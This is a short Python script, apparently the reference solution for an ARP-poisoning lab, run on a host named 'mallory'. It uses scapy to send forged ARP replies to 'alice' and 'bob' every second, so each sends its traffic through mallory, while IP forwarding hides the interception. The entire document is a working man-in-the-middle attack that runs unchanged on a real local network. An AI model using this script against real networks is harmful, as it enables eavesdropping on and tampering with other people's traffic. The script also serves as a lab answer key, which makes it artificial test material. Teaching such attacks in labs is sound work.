# The arp-poisoning lab's reference solution, run on mallory: tell alice that bob's address is at
# mallory's MAC and bob that alice's is, again every second (the caches heal otherwise). The
# kernel (ip_forward=1) passes the traffic on, so alice and bob keep talking.
import socket
import time

from scapy.all import ARP, Ether, get_if_hwaddr, getmacbyip, sendp

IFACE = "eth0"
alice, bob = socket.gethostbyname("alice"), socket.gethostbyname("bob")
mine = get_if_hwaddr(IFACE)
alice_mac, bob_mac = getmacbyip(alice), getmacbyip(bob)
lies = [
    Ether(dst=alice_mac) / ARP(op="is-at", hwsrc=mine, psrc=bob, hwdst=alice_mac, pdst=alice),
    Ether(dst=bob_mac) / ARP(op="is-at", hwsrc=mine, psrc=alice, hwdst=bob_mac, pdst=bob),
]
while True:
    sendp(lies, iface=IFACE, verbose=False)
    time.sleep(1)
